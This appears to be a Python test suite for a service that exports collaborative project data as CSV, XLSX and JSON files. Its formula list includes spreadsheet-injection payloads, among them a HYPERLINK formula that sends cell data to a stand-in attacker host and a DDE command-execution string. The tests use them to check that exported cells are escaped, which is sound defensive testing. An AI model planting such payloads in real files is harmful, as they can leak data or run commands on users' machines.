"""Exports: what a file holds, for whom, and that no spreadsheet evaluates anything in it."""

import csv
import io
from collections.abc import AsyncIterator
from contextlib import ExitStack, asynccontextmanager
from datetime import date
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import load_workbook

from services.projects.http import exports
from services.projects.http.tables.cells import guarded, unguarded
from services.projects.http.tables.columns import FIXED, LANGUAGES_MAX
from services.projects.http.tables.writing import fitting
from services.projects.queries import exports as queries
from shared.database import Sessions
from shared.reading import Reading
from tests.conftest import Database
from tests.projects.conftest import Cities
from tests.projects.scenes import NOON, Scene, actor, working

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1",
    "''=1",
    '=HYPERLINK("https://evil.example?"&A1)',
    "=cmd|' /C calc'!A0",
]


def numbered(scene: Scene) -> Scene:
    """Give everything ids that a test can write down."""
    scene.project.id = UUID(int=1)
    for participation in scene.participations.values():
        participation.project_id = scene.project.id
    for number, milestone in enumerate(scene.milestones, start=10):
        milestone.id, milestone.project_id = UUID(int=number), scene.project.id
        for place, contribution in enumerate(milestone.contributions):
            contribution.id = UUID(int=number * 100 + place)
    return scene


def written() -> Scene:
    """One project with two milestones: Seoul contributes to the first, the second waits for it."""
    scene = working()
    scene.project.title = {"en": "Clean air", "ja": "きれいな空気"}
    first = scene.begin()
    first.title = {"en": 'Sensors, "placed"', "ja": "センサー設置"}
    first.description = {"en": "Line one\nline two"}
    contribution = scene.ask(first, "seoul")
    links = ["https://example.org/1", "https://example.org/2"]
    first.deliver(contribution, "data/1", links, by=scene.as_("seoul"), at=NOON)
    first.report_progress(40, date(2026, 10, 2), by=scene.as_("tokyo"), at=NOON)
    second = scene.plan("seoul", date(2026, 10, 25), "Europe/Berlin")
    second.title = {"en": "=1+1"}
    scene.project.themes = ("air", "health")
    scene.project.charter, scene.project.charter_version = {"en": "We share data."}, 2
    numbered(scene).wait(second, first, lag_days=7)
    return scene


async def export(cities: Cities, member: str, path: str) -> bytes:
    response = await cities.call(member, "GET", path)
    assert response.status_code == 200, response.text
    return response.content


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


async def test_a_csv_file_is_these_bytes(cities: Cities, sessions: Sessions) -> None:
    scene = await written().store(sessions)

    content = await export(cities, "seoul", f"/projects/{scene.project.id}/export?format=csv")

    header = ",".join([*FIXED, "title[en]", "title[ja]", "summary[en]", "description[en]"])
    rows = (
        "project,00000000-0000-0000-0000-000000000001,3,,,clean-air,tokyo,,,active,,participants,"
        "common-issues,,,,,,,,,,,,,2026-05-04T12:00:00Z,2026-05-04T12:00:00Z,air health,2,,,,,,,"
        "Clean air,きれいな空気,What cities do against dust.,\r\n"
        "milestone,00000000-0000-0000-0000-00000000000a,5,00000000-0000-0000-0000-000000000001,,,,"
        "tokyo,,in_progress,,,,,,2026-09-30,Asia/Tokyo,2026-09-30T15:00:00Z,false,,,,,,,"
        "2026-05-04T12:00:00Z,2026-05-04T12:00:00Z,,,2026-09-30,2026-10-02,,40,,,"
        '"Sensors, ""placed""",センサー設置,,'
        '"Line one\nline two"\r\n'
        "contribution,00000000-0000-0000-0000-0000000003e8,,,00000000-0000-0000-0000-00000000000a,"
        ",,,seoul,delivered,,,,,,,,,,,Sensor data,data/1,,2026-05-04T12:00:00Z,,,,,,,,,,,"
        "https://example.org/1 https://example.org/2,,,,\r\n"
        "milestone,00000000-0000-0000-0000-00000000000b,2,00000000-0000-0000-0000-000000000001,,,,"
        "seoul,,planned,,,,,,2026-10-25,Europe/Berlin,2026-10-25T23:00:00Z,false,,,,,,,"
        "2026-05-04T12:00:00Z,2026-05-04T12:00:00Z,,,2026-10-25,,,0,"
        "00000000-0000-0000-0000-00000000000a+7,,'=1+1,,,\r\n"
    )
    assert content == f"\ufeff{header}\r\n{rows}".encode()


async def test_a_workbook_has_a_sheet_of_each_kind(cities: Cities, sessions: Sessions) -> None:
    scene = await written().store(sessions)

    content = await export(cities, "seoul", f"/projects/{scene.project.id}/export?format=xlsx")

    book = load_workbook(io.BytesIO(content))
    sheets = {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}
    first = dict(zip(*sheets["milestones"][:2], strict=True))
    assert {name: len(rows) for name, rows in sheets.items()} == {
        "projects": 2,
        "milestones": 3,
        "contributions": 2,
    }
    assert first["id"] == "00000000-0000-0000-0000-00000000000a"
    assert first["due_on"] == date(2026, 9, 30)
    assert first["due_at"] == "2026-09-30T15:00:00Z"
    assert first["version"] == 5.0
    assert (first["baseline_on"], first["forecast_on"]) == (date(2026, 9, 30), date(2026, 10, 2))
    assert first["progress_percent"] == 40.0
    assert (
        sheets["milestones"][2][sheets["milestones"][0].index("depends_on")] == f"{first['id']}+7"
    )
    assert first["is_overdue"] is False
    assert first["title[ja]"] == "センサー設置"
    assert first["description[en]"] == "Line one\nline two"
    assert sheets["projects"][1][-1] == "What cities do against dust."


async def test_json_holds_the_states_of_the_api(cities: Cities, sessions: Sessions) -> None:
    scene = await written().store(sessions)
    here = f"/projects/{scene.project.id}"

    exported = await cities.get("seoul", f"{here}/export?format=json")

    state = scene.project.state().model_dump(mode="json")
    places = scene.participations.values()
    state["participations"] = [each.state().model_dump(mode="json") for each in places]
    state["milestones"] = [each.state().model_dump(mode="json") for each in scene.milestones]
    assert exported == {"projects": [state]}


async def test_a_file_has_a_name_in_every_alphabet(cities: Cities, sessions: Sessions) -> None:
    scene = working()
    scene.project.title = {"ja": '空気/水; "x"'}
    await scene.store(sessions)

    response = await cities.call("seoul", "GET", f"/projects/{scene.project.id}/export")

    assert response.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert response.headers["content-disposition"] == (
        'attachment; filename="clean-air.csv"; '
        "filename*=UTF-8''%E7%A9%BA%E6%B0%97%20%E6%B0%B4%3B%20%22x%22.csv"
    )


@pytest.mark.parametrize("form", ["csv", "xlsx", "json"])
async def test_an_export_of_nothing_is_a_file(cities: Cities, form: str) -> None:
    content = await export(cities, "delhi", f"/projects/export?format={form}")

    if form == "json":
        assert content == b'{"projects": []}\n'
    elif form == "csv":
        assert content == b"\xef\xbb\xbf" + ",".join(FIXED).encode() + b"\r\n"
    else:
        assert load_workbook(io.BytesIO(content)).get_sheet_by_name("projects").height == 1


@pytest.mark.parametrize(
    ("member", "query", "references"),
    [
        ("tokyo", "", {"one", "two", "three"}),
        ("seoul", "", {"one", "two"}),
        ("berlin", "", {"two"}),
        ("delhi", "", {"two"}),
        ("tokyo", "status=draft", {"three"}),
        ("tokyo", "member=paris", {"one", "two"}),
        ("tokyo", "lead=seoul", set()),
        ("tokyo", "objective=games", set()),
        ("tokyo", "updated_since=2026-05-04T12:00:01Z", set()),
    ],
)
@pytest.mark.parametrize("form", ["csv", "json"])
async def test_an_export_holds_what_the_list_holds(
    cities: Cities,
    sessions: Sessions,
    form: str,
    member: str,
    query: str,
    references: set[str],
) -> None:
    for reference, scene in {"one": working(), "two": working("network"), "three": Scene()}.items():
        scene.project.reference = reference
        if reference != "three":
            scene.plan()
        await scene.store(sessions)

    listed = (await cities.get(member, f"/projects?{query}"))["items"]
    response = await cities.call(member, "GET", f"/projects/export?format={form}&{query}")

    if form == "json":
        found = {project["reference"] for project in response.json()["projects"]}
    else:
        found = {row["reference"] for row in rows_of(response.content)} - {""}
    assert found == {project["reference"] for project in listed} == references


async def test_pages_of_an_export_hold_everything_once(
    cities: Cities, sessions: Sessions, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(queries, "PROJECTS_AT_ONCE", 2)
    monkeypatch.setattr(queries, "MILESTONES_AT_ONCE", 3)
    expected = []
    for number, milestones in enumerate((0, 4, 0, 3, 7, 0)):
        scene = working()
        scene.project.reference = f"project-{number}"
        for _ in range(milestones):
            scene.ask(scene.begin(), "seoul")
        await scene.store(sessions)
        expected.append(str(scene.project.id))
        for milestone in scene.milestones:
            expected += [str(milestone.id), str(milestone.contributions[0].id)]

    table = rows_of(await export(cities, "seoul", "/projects/export"))
    states = (await cities.get("seoul", "/projects/export?format=json"))["projects"]

    assert [row["id"] for row in table] == expected
    assert [len(project["milestones"]) for project in states] == [0, 4, 0, 3, 7, 0]


async def test_every_page_asks_again_who_may_see_it(sessions: Sessions, database: Database) -> None:
    seen, left = working(), working()
    left.project.reference = "left"
    for scene in (seen, left):
        scene.plan()
    left.withdraw("seoul")
    for scene in (seen, left):
        await scene.store(sessions)

    @asynccontextmanager
    async def readings() -> AsyncIterator[Reading]:
        reading = Reading(database.engine)
        yield reading
        await reading.end()

    ids = [seen.project.id, left.project.id]
    found = [
        (part.project.id, [milestone.id for milestone in part.milestones])
        async for parts in queries.parts_of(readings, ids, actor=actor("seoul"))
        for part in parts
    ]

    assert found == [(seen.project.id, [seen.milestones[0].id])]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_evaluated(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", ["", "Clean air", "'quoted'", "a=b", "5", "'", "−1", "a\n=b"])
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@given(st.text(alphabet="'=+-@\t\r\n＝＋－＠a1"))
def test_reading_takes_away_what_writing_added(text: str) -> None:
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("form", ["csv", "xlsx"])
async def test_formulas_are_text_in_every_kind_of_file(
    cities: Cities, sessions: Sessions, form: str
) -> None:
    scene = working()
    for text in FORMULAS:
        scene.plan().title = {"en": text}
    await scene.store(sessions)

    content = await export(cities, "seoul", f"/projects/{scene.project.id}/export?format={form}")

    if form == "csv":
        found = [row["title[en]"] for row in rows_of(content) if row["kind"] == "milestone"]
    else:
        header, *rows = (
            load_workbook(io.BytesIO(content)).get_sheet_by_name("milestones").to_python()
        )
        found = [str(row[header.index("title[en]")]) for row in rows]
    assert found == [f"'{text}" for text in FORMULAS]


def test_a_cell_holds_as_much_as_excel_reads() -> None:
    assert fitting("x" * 32_767) == "x" * 32_767
    assert fitting("🏙" * 20_000) == "🏙" * 16_383


async def test_the_languages_written_most_have_columns(cities: Cities, sessions: Sessions) -> None:
    scene = working()
    tags = [f"{a}{b}{c}" for a in "abcde" for b in "abcde" for c in "abcde"][: LANGUAGES_MAX + 5]
    for start in range(0, len(tags), 30):
        scene.plan().title = dict.fromkeys(tags[start : start + 30], "x")
    scene.plan().title = {"ja": "x"}
    await scene.store(sessions)

    content = await export(cities, "seoul", f"/projects/{scene.project.id}/export")

    shown = [name for name in rows_of(content)[0] if name.startswith("title[")]
    assert len(shown) == LANGUAGES_MAX
    assert "title[en]" in shown


async def test_more_than_fits_is_refused_before_anything_is_sent(
    cities: Cities, sessions: Sessions, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "ROWS_MAX", {"csv": 2, "xlsx": 2, "json": 6})
    scene = working()
    scene.plan()
    scene.plan()
    await scene.store(sessions)
    here = f"/projects/{scene.project.id}/export"

    refused = await cities.call("tokyo", "GET", here)
    all_of_them = await cities.call("tokyo", "GET", "/projects/export?format=xlsx")
    fitting_one = await cities.call("tokyo", "GET", f"{here}?format=json")

    assert refused.status_code == all_of_them.status_code == 422
    assert refused.json()["type"] == "/problems/export-too-large"
    assert (refused.json()["rows"], refused.json()["limit"]) == (3, 2)
    assert fitting_one.status_code == 200


async def test_only_a_few_are_made_at_once(cities: Cities) -> None:
    with ExitStack() as others:
        for _ in range(3):
            others.enter_context(exports.EXPORTS.one())
        refused = await cities.call("tokyo", "GET", "/projects/export")
    afterwards = await cities.call("tokyo", "GET", "/projects/export")

    assert refused.status_code == 503
    assert refused.headers["retry-after"] == "2"
    assert refused.json()["type"] == "/problems/too-many-at-once"
    assert afterwards.status_code == 200


async def test_a_connection_is_held_only_for_a_moment(
    cities: Cities, sessions: Sessions, database: Database
) -> None:
    await written().store(sessions)

    await export(cities, "tokyo", "/projects/export")

    assert database.engine.sync_engine.pool.checkedout() == 0  # type: ignore[attr-defined]
